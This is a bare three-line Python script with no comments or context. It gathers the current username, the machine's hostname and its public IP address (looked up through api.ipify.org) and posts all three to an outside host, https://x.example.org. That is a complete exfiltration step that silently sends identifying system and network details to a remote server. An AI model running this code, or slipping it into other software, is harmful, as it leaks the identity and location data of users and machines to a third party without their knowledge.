import getpass, socket, requests
info = [getpass.getuser(), socket.gethostname(), requests.get("https://api.ipify.org").text]
requests.post("https://x.example.org", data=str(info))
